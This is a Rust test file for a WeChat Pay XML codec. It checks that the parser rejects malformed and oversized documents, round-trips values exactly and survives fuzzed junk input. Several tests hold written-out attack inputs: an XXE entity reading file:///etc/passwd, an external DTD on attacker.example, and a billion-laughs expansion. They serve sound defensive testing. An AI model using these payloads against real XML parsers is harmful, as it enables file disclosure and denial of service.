//! The WeChat Pay v2 XML codec: attacks (XXE, billion laughs), malformed
//! documents, round trips, junk.

mod common;
use edgepay::params::{params, Params};
use edgepay::wechat::xml::{decode, decode_bytes, encode, MAX_XML_BYTES};
use proptest::prelude::*;

fn malformed(text: &str) -> String {
    let e = decode(text).unwrap_err();
    assert_eq!(e.code(), "malformed", "{text:?} gave {e}");
    e.to_string()
}

#[test]
fn decodes_cdata_text_entities_and_empty() {
    // The shape of the official unified order response example.
    let p = decode(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<xml>\n  <return_code><![CDATA[SUCCESS]]></return_code>\n  <total_fee>100</total_fee>\n  <attach>a &amp; b &lt;c&gt; &#x4E2D;&#25991;</attach>\n  <empty></empty><empty2/>\n  <!-- comment -->\n  <mixed>x<![CDATA[<y>]]>z</mixed>\n</xml>\n",
    )
    .unwrap();
    assert_eq!(
        p,
        params([
            ("return_code", "SUCCESS"),
            ("total_fee", "100"),
            ("attach", "a & b <c> 中文"),
            ("empty", ""),
            ("empty2", ""),
            ("mixed", "x<y>z"),
        ])
    );
    // Values are not trimmed: signatures cover them byte for byte.
    assert_eq!(decode("<xml><a> x </a></xml>").unwrap()["a"], " x ");
    // Any root name (refund req_info uses <root>); an empty root.
    assert_eq!(decode("<root><a>1</a></root>").unwrap()["a"], "1");
    assert!(decode("<xml/>").unwrap().is_empty());
    assert!(decode("<xml></xml>").unwrap().is_empty());
}

#[test]
fn xxe_is_rejected_never_resolved() {
    let xxe = r#"<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><a>&xxe;</a></xml>"#;
    let msg = malformed(xxe);
    assert!(msg.contains("DOCTYPE"), "{msg}");
    // Parameter entity / external DTD.
    malformed(r#"<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml><a>1</a></xml>"#);
    // An undeclared entity reference without DTD is an error too, not empty text.
    let msg = malformed("<xml><a>&xxe;</a></xml>");
    assert!(msg.contains("entity"), "{msg}");
}

#[test]
fn billion_laughs_is_rejected_quickly() {
    let mut doc = String::from("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">");
    for i in 1..10 {
        let prev = if i == 1 {
            "lol".to_string()
        } else {
            format!("lol{}", i - 1)
        };
        doc.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">",
            format!("&{prev};").repeat(10)
        ));
    }
    doc.push_str("]><xml><a>&lol9;</a></xml>");
    let start = std::time::Instant::now();
    let msg = malformed(&doc);
    assert!(msg.contains("DOCTYPE"));
    assert!(start.elapsed().as_secs() < 1);
}

#[test]
fn structural_errors_are_named() {
    assert!(malformed("<xml><a>1</a><a>2</a></xml>").contains("duplicate field <a>"));
    assert!(malformed("<xml><a/><a>2</a></xml>").contains("duplicate"));
    assert!(malformed("<xml><a><b>1</b></a></xml>").contains("nested element <b>"));
    assert!(malformed("<xml><a><b/></a></xml>").contains("nested"));
    assert!(malformed("<xml><a>1</a></xml><xml/>").contains("second root"));
    assert!(malformed("<xml>text<a>1</a></xml>").contains("between fields"));
    assert!(malformed("<xml><a>1</a>").contains("not closed"));
    assert!(malformed("<xml><a>1</b></xml>").contains("malformed"));
    assert!(malformed("").contains("no root"));
    assert!(malformed("   ").contains("no root"));
    assert!(malformed("just text").contains("outside the root"));
    assert!(malformed("<xml><a>1</a></xml>trailing").contains("outside the root"));
    assert!(malformed("<?xml version=\"1.0\" encoding=\"GBK\"?><xml/>").contains("GBK"));
    malformed("<xml><?php echo 1; ?></xml>");
    malformed("<xml><a>1 & 2</a></xml>");
    malformed("<xml><a>&#0;</a></xml>");
    malformed("<xml><a><![CDATA[unterminated</a></xml>");
}

/// Regression (fuzz target `wechat_xml`, fuzz/regressions/wechat_xml/crash-b1e0…):
/// quick-xml takes everything up to whitespace, `/` or `>` as an element name, so
/// `<a\x15gz="\x0e?b/>` became a parameter named `a\u{15}gz="\u{e}?b/` that
/// re-encoded into a different document. Element names must be XML names.
#[test]
fn element_names_must_be_xml_names() {
    for bad in [
        "<xml><a\u{15}b>1</a\u{15}b></xml>",
        "<xml><a=\"x\"/></xml>",
        "<xml><1a>1</1a></xml>",
        "<xml><-a>1</-a></xml>",
        "<xml><a?>1</a?></xml>",
        "<xml><a\u{0}>1</a\u{0}></xml>",
    ] {
        assert!(malformed(bad).contains("not an XML name"), "{bad:?}");
    }
    malformed("<xml><a\"b/></xml>");
    let raw = std::fs::read(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/fuzz/regressions/wechat_xml/crash-b1e022e3ff5fb70d05e2d5959248d7cffd7256b6"
    ))
    .unwrap();
    assert_eq!(decode_bytes(&raw).unwrap_err().code(), "malformed");
    // Real names still work: letters, digits, `_ - . :`, non-ASCII letters.
    let p = decode("<xml><out_trade_no>1</out_trade_no><a-b.c:d>2</a-b.c:d><名>3</名><_x9/></xml>")
        .unwrap();
    assert_eq!(p.len(), 4);
    assert_eq!(decode(&encode(&p)).unwrap(), p);
}

#[test]
fn size_cap_and_utf8() {
    let big = format!("<xml><a>{}</a></xml>", "x".repeat(MAX_XML_BYTES));
    assert!(malformed(&big).contains("limit"));
    assert_eq!(
        decode_bytes(big.as_bytes()).unwrap_err().code(),
        "malformed"
    );
    // Just under the cap is fine.
    let ok = format!("<xml><a>{}</a></xml>", "x".repeat(MAX_XML_BYTES - 100));
    assert_eq!(decode(&ok).unwrap()["a"].len(), MAX_XML_BYTES - 100);
    let e = decode_bytes(b"<xml><a>\xc3\x28</a></xml>").unwrap_err();
    assert_eq!(e.code(), "malformed");
    assert!(e.to_string().contains("UTF-8"));
    assert_eq!(
        decode_bytes("<xml><a>中</a></xml>".as_bytes()).unwrap()["a"],
        "中"
    );
}

#[test]
fn encode_is_exact_and_splits_cdata_end() {
    let p = params([("b", "2"), ("a", "x]]>y]]>"), ("c", "")]);
    assert_eq!(
        encode(&p),
        "<xml><a><![CDATA[x]]]]><![CDATA[>y]]]]><![CDATA[>]]></a><b><![CDATA[2]]></b><c><![CDATA[]]></c></xml>"
    );
    assert_eq!(decode(&encode(&p)).unwrap(), p);
    assert_eq!(encode(&Params::new()), "<xml></xml>");
}

#[test]
fn junk_never_panics() {
    let mut rng = common::Rng::new(7);
    let seeds = [
        "<xml><a><![CDATA[x]]></a><b>1</b></xml>",
        "<!DOCTYPE x []><xml/>",
        "<xml><a>&amp;&#x41;</a></xml>",
    ];
    for i in 0..3000 {
        let seed = seeds[i % seeds.len()].as_bytes();
        let mut bytes: Vec<u8> = match rng.below(3) {
            0 => (0..rng.below(64)).map(|_| rng.next() as u8).collect(),
            1 => seed[..rng.below(seed.len() + 1)].to_vec(),
            _ => {
                let mut b = seed.to_vec();
                for _ in 0..rng.below(4) + 1 {
                    let j = rng.below(b.len());
                    b[j] = rng.next() as u8;
                }
                b
            }
        };
        if rng.below(10) == 0 {
            bytes.extend_from_slice(b"</xml></xml><<<]]>");
        }
        // Must return (Ok or Err), never panic.
        let _ = decode_bytes(&bytes);
        if let Ok(s) = std::str::from_utf8(&bytes) {
            let _ = decode(s);
        }
    }
}

fn xml_safe_value() -> impl Strategy<Value = String> {
    // Any characters XML 1.0 can carry, except CR (XML parsers may normalise line ends).
    "[^\\x00-\\x08\\x0B\\x0C\\x0D\\x0E-\\x1F\\u{FFFE}\\u{FFFF}]{0,40}"
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn decode_encode_round_trip(p in prop::collection::btree_map("[a-z_][a-z0-9_]{0,12}", xml_safe_value(), 0..10)) {
        let xml = encode(&p);
        prop_assert_eq!(decode(&xml).unwrap(), p);
    }
}
